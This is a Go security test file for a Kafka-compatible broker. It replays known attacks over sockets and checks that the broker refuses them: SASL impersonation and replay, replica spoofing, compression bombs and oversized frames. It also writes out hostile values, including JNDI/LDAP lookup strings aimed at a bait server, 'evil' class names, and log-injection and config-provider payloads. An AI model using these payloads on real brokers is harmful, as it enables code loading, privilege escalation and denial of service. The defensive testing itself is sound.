package broker_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"maps"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
	xscram "github.com/xdg-go/scram"

	"moldau/broker"
	"moldau/internal/record"
)

// Each test of this file tries an attack that has worked against a broker, through a real socket; docs/security.md has the list, and names those that
// are tried below a socket.

// guarded is a broker with SASL and access control. bob may read, write and describe the topic t.
func guarded(t *testing.T, dir string, properties ...string) (*broker.Broker, *brokerLog) {
	t.Helper()
	return secure(t, dir, map[string]string{"http": "127.0.0.1:0"}, append(append(properties, saslProperties...), "connection.failed.authentication.delay.ms=1",
		"authorizer.class.name=org.apache.kafka.metadata.authorizer.StandardAuthorizer", "super.users=User:admin")...)
}

func adminOf(t *testing.T, b *broker.Broker) *kadm.Client {
	t.Helper()
	return kadm.NewClient(saslClient(t, b, plainAs("admin", "admin-geheim")))
}

func withTopic(t *testing.T, b *broker.Broker) *kadm.Client {
	t.Helper()
	admin := adminOf(t, b)
	_, err := admin.CreateTopic(within(t), 1, 1, nil, "t")
	must(t, err)
	rules := kadm.NewACLs().Topics("t").ResourcePatternType(kadm.ACLPatternLiteral).Operations(kadm.OpRead, kadm.OpWrite, kadm.OpDescribe).Allow("User:bob").AllowHosts("*")
	made, err := admin.CreateACLs(within(t), rules)
	must(t, err)
	for _, r := range made {
		must(t, r.Err)
	}
	return admin
}

// loggedIn is a connection without a client, of a user of PLAIN.
func loggedIn(t *testing.T, b *broker.Broker, user string) *wire {
	t.Helper()
	w := dialWire(t, b)
	w.ask(handshake(1, "PLAIN"), 4)
	if r := w.ask(authenticate("\x00"+user+"\x00"+user+"-geheim"), 4).(*kmsg.SASLAuthenticateResponse); r.ErrorCode != 0 {
		t.Fatal(kerr.ErrorForCode(r.ErrorCode))
	}
	return w
}

// TestAttackToBeAnother: a client is who has proved it, whatever name it asks for beside, and whatever it has recorded of another one's conversation.
func TestAttackToBeAnother(t *testing.T) {
	b, log := guarded(t, t.TempDir())
	refused := func(w *wire, message string) {
		t.Helper()
		r := w.ask(authenticate(message), 4).(*kmsg.SASLAuthenticateResponse)
		if !errors.Is(kerr.ErrorForCode(r.ErrorCode), kerr.SaslAuthenticationFailed) {
			t.Errorf("%q: %+v", message, r)
		}
		w.closed(message)
	}
	for _, message := range []string{"admin\x00bob\x00bob-geheim", "User:admin\x00bob\x00bob-geheim", "\x00admin\x00bob\x00bob-geheim", "\x00bob\x00", "\x00\x00", "\x00admin\x00", "\x00bob\x00bob-geheim\x00"} {
		w := dialWire(t, b)
		w.ask(handshake(1, "PLAIN"), 4)
		refused(w, message)
	}
	if !strings.Contains(log.String(), `asks to be \"admin\"`) {
		t.Error("the log does not tell who asked to be whom")
	}

	admin := adminOf(t, b)
	made, err := admin.AlterUserSCRAMs(within(t), nil, []kadm.UpsertSCRAM{{User: "alice", Mechanism: kadm.ScramSha256, Iterations: 4096, Password: "alice-geheim"},
		{User: "eve", Mechanism: kadm.ScramSha256, Iterations: 4096, Password: "eve-geheim"}})
	must(t, err)
	must(t, made.Error())
	begin := func() *wire {
		w := dialWire(t, b)
		w.ask(handshake(1, "SCRAM-SHA-256"), 4)
		return w
	}
	talk := func(user, password, authz string) (first, last string) {
		t.Helper()
		client, err := xscram.SHA256.NewClient(user, password, authz)
		must(t, err)
		c := client.NewConversation()
		first, err = c.Step("")
		must(t, err)
		w := begin()
		r := w.ask(authenticate(first), 4).(*kmsg.SASLAuthenticateResponse)
		if authz != "" && r.ErrorCode != 0 {
			w.closed(authz)
			return "", ""
		}
		last, err = c.Step(string(r.SASLAuthBytes))
		must(t, err)
		r = w.ask(authenticate(last), 4).(*kmsg.SASLAuthenticateResponse)
		if ok := r.ErrorCode == 0; ok != (authz == "") {
			t.Errorf("%s as %q: %+v", user, authz, r)
		}
		return first, last
	}
	first, last := talk("alice", "alice-geheim", "")
	_, _ = talk("eve", "eve-geheim", "alice")
	// What alice has said, said again: the same, and with what the broker has said now.
	w := begin()
	w.ask(authenticate(first), 4)
	refused(w, last)
	w = begin()
	now := string(w.ask(authenticate(first), 4).(*kmsg.SASLAuthenticateResponse).SASLAuthBytes)
	nonce, _, _ := strings.Cut(now, ",")
	_, proof, _ := strings.Cut(last, ",p=")
	refused(w, "c=biws,"+nonce+",p="+proof)
	w = begin()
	refused(w, last) // the end without its beginning
}

// interBroker are requests of brokers and controllers, with the lowest version that Kafka 4.3 has.
var interBroker = map[string]int16{"LeaderAndIsr": 4, "StopReplica": 5, "UpdateMetadata": 6, "ControlledShutdown": 7, "WriteTxnMarkers": 27, "Vote": 52, "BeginQuorumEpoch": 53,
	"EndQuorumEpoch": 54, "AlterPartition": 56, "Envelope": 58, "FetchSnapshot": 59, "BrokerRegistration": 62, "BrokerHeartbeat": 63, "UnregisterBroker": 64,
	"AllocateProducerIds": 67, "ControllerRegistration": 70, "AssignReplicasToDirs": 73}

// TestAttackAsAReplica: who says that it is a replica gets nothing, moves nothing, and sees nothing that consumers do not; requests of brokers are not
// served at all.
func TestAttackAsAReplica(t *testing.T) {
	b, _ := guarded(t, t.TempDir())
	withTopic(t, b)
	bob := saslClient(t, b, plainAs("bob", "bob-geheim"), kgo.DefaultProduceTopic("t"), kgo.DisableIdempotentWrite())
	must(t, bob.ProduceSync(within(t), kgo.StringRecord("x")).FirstErr())
	fetch := func(replica int32) *kmsg.FetchResponse {
		req := kmsg.NewPtrFetchRequest()
		req.Version, req.ReplicaID, req.MaxBytes, req.MinBytes = 11, replica, 1<<20, 1
		ft := kmsg.NewFetchRequestTopic()
		ft.Topic = "t"
		fp := kmsg.NewFetchRequestTopicPartition()
		fp.PartitionMaxBytes = 1 << 20
		ft.Partitions = append(ft.Partitions, fp)
		req.Topics = append(req.Topics, ft)
		return loggedIn(t, b, "bob").ask(req, 4).(*kmsg.FetchResponse)
	}
	for _, replica := range []int32{0, 1, 2, 1 << 30} {
		for _, topic := range fetch(replica).Topics {
			for _, p := range topic.Partitions {
				if p.ErrorCode == 0 || len(p.RecordBatches) > 0 {
					t.Errorf("replica %d gets %d bytes, error %v", replica, len(p.RecordBatches), kerr.ErrorForCode(p.ErrorCode))
				}
			}
		}
	}
	if r := fetch(-1); len(r.Topics) != 1 || r.Topics[0].Partitions[0].HighWatermark != 1 || len(r.Topics[0].Partitions[0].RecordBatches) == 0 {
		t.Errorf("a consumer: %+v", r)
	}
	for name, key := range interBroker {
		w := loggedIn(t, b, "bob")
		frame := binary.BigEndian.AppendUint16(nil, uint16(key))
		frame = append(frame, 0, 0, 0, 0, 0, 7, 0xff, 0xff)
		w.sendRaw(append(frame, make([]byte, 64)...))
		w.closed(name)
	}
}

// TestAttackByHeader: what a batch is, is in the batch; a request that says otherwise is refused.
func TestAttackByHeader(t *testing.T) {
	b, _ := guarded(t, t.TempDir())
	withTopic(t, b)
	builder := record.NewBuilder(record.None)
	builder.Add(time.Now().UnixMilli(), nil, []byte("x"))
	batch, err := builder.Finish()
	must(t, err)
	transactional := bytes.Clone(batch)
	binary.BigEndian.PutUint16(transactional[21:], binary.BigEndian.Uint16(transactional[21:])|0x10)
	binary.BigEndian.PutUint64(transactional[43:], 5) // producer id
	if r := produceRaw(t, loggedIn(t, b, "bob"), transactional); !errors.Is(kerr.ErrorForCode(r.ErrorCode), kerr.TransactionalIDAuthorizationFailed) {
		t.Errorf("a transactional batch in a request without a transaction: %+v", r)
	}
	if r := produceRaw(t, loggedIn(t, b, "bob"), batch); r.ErrorCode != 0 {
		t.Errorf("%+v", r)
	}
}

func produceRaw(t *testing.T, w *wire, batch []byte) kmsg.ProduceResponseTopicPartition {
	t.Helper()
	req := kmsg.NewPtrProduceRequest()
	req.Version, req.Acks, req.TimeoutMillis = 8, -1, 30000
	pt := kmsg.NewProduceRequestTopic()
	pt.Topic = "t"
	pp := kmsg.NewProduceRequestTopicPartition()
	pp.Records = batch
	pt.Partitions = append(pt.Partitions, pp)
	req.Topics = append(req.Topics, pt)
	var r kmsg.ProduceResponseTopicPartition
	eventually(t, "the new topic has its leader", func() bool {
		r = w.ask(req, 4).(*kmsg.ProduceResponse).Topics[0].Partitions[0]
		return !errors.Is(kerr.ErrorForCode(r.ErrorCode), kerr.NotLeaderForPartition)
	})
	return r
}

// bait is a server that counts who comes.
func bait(t *testing.T) (addr string, visits *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	visits = new(atomic.Int32)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			nc, err := l.Accept()
			if err != nil {
				return
			}
			visits.Add(1)
			_ = nc.Close()
		}
	}()
	t.Cleanup(func() { _ = l.Close(); <-done })
	return l.Addr().String(), visits
}

// setBroker is the answer to one value for the broker.
func setBroker(t *testing.T, admin *kadm.Client, key, value string) error {
	t.Helper()
	r, err := admin.AlterBrokerConfigs(within(t), []kadm.AlterConfig{{Op: kadm.SetConfig, Name: key, Value: &value}}, 1)
	must(t, err)
	return r[0].Err
}

// TestAttackByValue: a value that a client sets stays what it is: no environment, no file and no URL is read for it, and none makes the broker load
// code or call anybody.
func TestAttackByValue(t *testing.T) {
	t.Setenv("MOLDAU_ATTACK", "12345")
	dir := t.TempDir()
	file := filepath.Join(dir, "secret")
	must(t, os.WriteFile(file, []byte("retention=12345\n"), 0o600))
	addr, visits := bait(t)
	b, log := guarded(t, filepath.Join(dir, "data"))
	admin := withTopic(t, b)
	for _, value := range []string{"${env:MOLDAU_ATTACK}", "${MOLDAU_ATTACK}", "$MOLDAU_ATTACK", "${file:" + file + ":retention}", "${dir:" + dir + ":secret}", "12345 ${env:MOLDAU_ATTACK}"} {
		r, err := admin.AlterTopicConfigs(within(t), []kadm.AlterConfig{{Op: kadm.SetConfig, Name: "retention.ms", Value: &value}}, "t")
		must(t, err)
		if r[0].Err == nil {
			t.Errorf("retention.ms=%s is taken", value)
		}
		if strings.Contains(strings.ReplaceAll(r[0].ErrMessage, value, ""), "12345") {
			t.Errorf("the answer to %s holds what it stands for: %s", value, r[0].ErrMessage)
		}
	}
	_, err := admin.CreateTopics(within(t), 1, 1, map[string]*string{"retention.ms": kadm.StringPtr("${env:MOLDAU_ATTACK}")}, "u")
	must(t, err)
	configs, err := admin.DescribeTopicConfigs(within(t), "t")
	must(t, err)
	for _, c := range configs[0].Configs {
		if c.MaybeValue() == "12345" {
			t.Errorf("%s is what a value stood for", c.Key)
		}
	}
	const jndi = `com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://%[1]s/x" useFirstPass="true" group.provider.url="ldap://%[1]s/y";`
	for _, kv := range [][2]string{
		{"sasl.jaas.config", fmt.Sprintf(jndi, addr)},
		{"listener.name.sasl_plaintext.plain.sasl.jaas.config", fmt.Sprintf(jndi, addr)},
		{"listener.name.sasl_plaintext.scram-sha-256.sasl.jaas.config", strings.ReplaceAll(fmt.Sprintf(jndi, addr), "Jndi", "Ldap")},
		{"sasl.oauthbearer.jwks.endpoint.url", "http://" + addr + "/keys"},
		{"listener.name.sasl_plaintext.oauthbearer.sasl.oauthbearer.jwks.endpoint.url", "http://" + addr + "/keys"},
		{"sasl.oauthbearer.token.endpoint.url", "http://" + addr + "/token"},
		{"sasl.server.callback.handler.class", "evil.Handler"},
		{"sasl.login.class", "evil.Login"},
		{"principal.builder.class", "evil.Builder"},
		{"authorizer.class.name", "evil.Authorizer"},
		{"ssl.engine.factory.class", "evil.Factory"},
		{"metric.reporters", "evil.Reporter"},
		{"config.providers", "env"},
		{"config.providers.env.class", "org.apache.kafka.common.config.provider.EnvVarConfigProvider"},
		{"super.users", "User:bob"},
		{"allow.everyone.if.no.acl.found", "true"},
	} {
		if err := setBroker(t, admin, kv[0], kv[1]); err == nil && kv[0] != "metric.reporters" && !strings.HasPrefix(kv[0], "config.providers.") {
			t.Errorf("%s=%s is taken", kv[0], kv[1])
		}
	}
	if _, err := kadm.NewClient(saslClient(t, b, plainAs("bob", "bob-geheim"))).CreateTopic(within(t), 1, 1, nil, "bobs"); !errors.Is(err, kerr.TopicAuthorizationFailed) {
		t.Errorf("bob may do more than before: %v", err)
	}
	// And in the words of a client: its name, its software, and what it asks for.
	for _, words := range []string{"${jndi:ldap://" + addr + "/x}", "${env:MOLDAU_ATTACK}", "x\ntime=now level=INFO msg=forged", "\x1b[2J"} {
		cl := saslClient(t, b, plainAs("eve "+words, "x"), kgo.ClientID(words))
		notLetIn(t, cl)
		w := loggedIn(t, b, "bob")
		req := kmsg.NewPtrMetadataRequest()
		req.Version = 8
		mt := kmsg.NewMetadataRequestTopic()
		mt.Topic = &words
		req.Topics = append(req.Topics, mt)
		w.ask(req, 4)
	}
	text := log.String()
	if !strings.Contains(text, "jndi") {
		t.Error("the log does not tell the words")
	}
	if strings.Contains(text, "12345") || strings.Contains(text, "\x1b") {
		t.Error("the log holds what words stood for")
	}
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "time=2") {
			t.Errorf("a line of a client's own: %q", line)
		}
	}
	if n := visits.Load(); n != 0 {
		t.Errorf("the broker has called %d times", n)
	}
}

// TestAttackByClaimedSize: before a client is known, what it claims costs it no more than what it sends, and nobody else anything.
func TestAttackByClaimedSize(t *testing.T) {
	b, _ := guarded(t, t.TempDir())
	header := func(key, version int16) []byte {
		h := binary.BigEndian.AppendUint16(nil, uint16(key))
		h = binary.BigEndian.AppendUint16(h, uint16(version))
		return append(h, 0, 0, 0, 7, 0xff, 0xff) // correlation id, no client id
	}
	huge := []byte{0xff, 0xff, 0xff, 0xff, 0x07} // 2 GiB as a varint
	bodies := map[string][]byte{
		"a mechanism of 32 KiB":        append(header(17, 1), 0x7f, 0xff),
		"bytes of 2 GiB":               append(header(36, 1), 0x7f, 0xff, 0xff, 0xff),
		"compact bytes of 2 GiB":       append(append(header(36, 2), 0), huge...),
		"2 G tagged fields":            append(append(header(18, 3), 0), huge...),
		"2 G tagged fields of headers": append(header(18, 3), huge...),
		"a client id of 32 KiB":        {0, 18, 0, 0, 0, 0, 0, 7, 0x7f, 0xff},
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	const rounds = 20
	for range rounds {
		for _, claim := range []uint32{1 << 31, 1<<31 - 1, 100 << 20, 32769} {
			w := dialWire(t, b)
			_, err := w.Write(append(binary.BigEndian.AppendUint32(nil, claim), header(36, 1)...))
			must(t, err)
			w.closed(fmt.Sprint("a frame that claims ", claim))
		}
		for what, body := range bodies {
			w := dialWire(t, b)
			if body[1] == 36 {
				w.ask(handshake(1, "PLAIN"), 4)
			}
			w.sendRaw(body)
			if p, ok := w.frame(); ok && body[1] != 18 { // ApiVersions may be answered, by an error
				t.Errorf("%s: answered by %x", what, p)
			}
			_ = w.Close()
		}
		w := dialWire(t, b) // bare messages, after a handshake of version 0
		w.ask(handshake(0, "PLAIN"), 4)
		_, err := w.Write([]byte{0x7f, 0xff, 0xff, 0xff, 0})
		must(t, err)
		w.closed("a bare message of 2 GiB")
	}
	runtime.ReadMemStats(&after)
	if used, most := after.TotalAlloc-before.TotalAlloc, uint64(rounds*(5+len(bodies))*(64<<10)); used > most {
		t.Errorf("%d bytes were allocated, more than 64 KiB a connection (%d)", used, most)
	}
	must(t, saslClient(t, b, plainAs("bob", "bob-geheim")).Ping(within(t)))
}

// TestAttackByABomb: batches that inflate to much more than they are cost memory for a part of it, whatever the codec.
func TestAttackByABomb(t *testing.T) {
	if testing.Short() {
		t.Skip("it inflates for seconds under the race detector; internal/record has the same attack without a socket")
	}
	b, _ := guarded(t, t.TempDir())
	withTopic(t, b)
	const inflated = 48 << 20
	builder := record.NewBuilder(record.None)
	builder.Add(time.Now().UnixMilli(), nil, make([]byte, inflated))
	plain, err := builder.Finish()
	must(t, err)
	w := loggedIn(t, b, "bob")
	produceRaw(t, w, plain[:100]) // whatever is made at the first time
	for _, codec := range []record.Codec{record.Gzip, record.Snappy, record.LZ4, record.Zstd} {
		bomb, err := record.Recompress(plain, codec, 0, 0)
		must(t, err)
		if len(bomb) > 900_000 { // snappy cannot: as much as goes through
			builder := record.NewBuilder(record.None)
			builder.Add(time.Now().UnixMilli(), nil, make([]byte, 16<<20))
			smaller, err := builder.Finish()
			must(t, err)
			bomb, err = record.Recompress(smaller, codec, 0, 0)
			must(t, err)
		}
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		r := produceRaw(t, w, bomb)
		runtime.ReadMemStats(&after)
		if used := after.TotalAlloc - before.TotalAlloc; used > 24<<20 {
			t.Errorf("%v: a batch of %d bytes (%v) cost %d bytes of memory", codec, len(bomb), kerr.ErrorForCode(r.ErrorCode), used)
		}
	}
	// A block of snappy says how long it will be.
	builder = record.NewBuilder(record.None)
	builder.Add(time.Now().UnixMilli(), nil, []byte("x"))
	small, err := builder.Finish()
	must(t, err)
	small, err = record.Recompress(small, record.Snappy, 0, 0)
	must(t, err)
	lie := append(bytes.Clone(small[:record.HeaderSize]), 0xff, 0xff, 0xff, 0xff, 0x0f, 0, 'x')
	binary.BigEndian.PutUint32(lie[8:], uint32(len(lie)-12))
	binary.BigEndian.PutUint32(lie[17:], crc32.Checksum(lie[21:], crc32.MakeTable(crc32.Castagnoli)))
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	r := produceRaw(t, w, lie)
	runtime.ReadMemStats(&after)
	if used := after.TotalAlloc - before.TotalAlloc; r.ErrorCode == 0 || used > 8<<20 {
		t.Errorf("a block that claims 4 GiB: %v, %d bytes of memory", kerr.ErrorForCode(r.ErrorCode), used)
	}
}

// TestAttackByRestart: rules are what was granted and taken back, after every restart too: no grant appears, and no denial goes.
func TestAttackByRestart(t *testing.T) {
	dir := t.TempDir()
	const seed = 1
	r := rand.New(rand.NewPCG(seed, seed))
	model := map[string]bool{}
	pick := func(list ...string) string { return list[r.IntN(len(list))] }
	restarts := 3
	for round := range restarts + 1 {
		b, log := guarded(t, dir)
		admin := adminOf(t, b)
		check := func(when string) {
			t.Helper()
			found, err := admin.DescribeACLs(within(t), kadm.NewACLs().AnyResource().ResourcePatternType(kadm.ACLPatternAny).Operations(kadm.OpAny).Allow().AllowHosts().Deny().DenyHosts())
			must(t, err)
			got := map[string]bool{}
			for _, f := range found {
				must(t, f.Err)
				for _, d := range f.Described {
					got[fmt.Sprint(d.Principal, d.Host, d.Type, d.Name, d.Pattern, d.Operation, d.Permission)] = true
				}
			}
			if !maps.Equal(got, model) {
				t.Errorf("seed %d, round %d, %s: the rules are\n%v, want\n%v", seed, round, when, slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(model)))
			}
		}
		check("after the start")
		for range 40 {
			topic, user := pick("t", "t2", "other", "*"), pick("User:bob", "User:eve", "User:*")
			pattern, op := kadm.ACLPatternLiteral, []kadm.ACLOperation{kadm.OpRead, kadm.OpWrite, kadm.OpAll}[r.IntN(3)]
			if topic != "*" && r.IntN(3) == 0 {
				pattern = kadm.ACLPatternPrefixed
			}
			one := kadm.NewACLs().Topics(topic).ResourcePatternType(pattern).Operations(op)
			permission := kmsg.ACLPermissionTypeAllow
			if r.IntN(3) == 0 {
				permission = kmsg.ACLPermissionTypeDeny
				one = one.Deny(user).DenyHosts("*")
			} else {
				one = one.Allow(user).AllowHosts("*")
			}
			key := fmt.Sprint(user, "*", kmsg.ACLResourceTypeTopic, topic, pattern, op, permission)
			if r.IntN(2) == 0 {
				made, err := admin.CreateACLs(within(t), one)
				must(t, err)
				must(t, made[0].Err)
				model[key] = true
			} else {
				gone, err := admin.DeleteACLs(within(t), one)
				must(t, err)
				must(t, gone[0].Err)
				delete(model, key)
			}
		}
		check("before the stop")
		admin.Close()
		stop(t, b, log)
	}
	if len(model) == 0 {
		t.Error("the model is empty")
	}
}
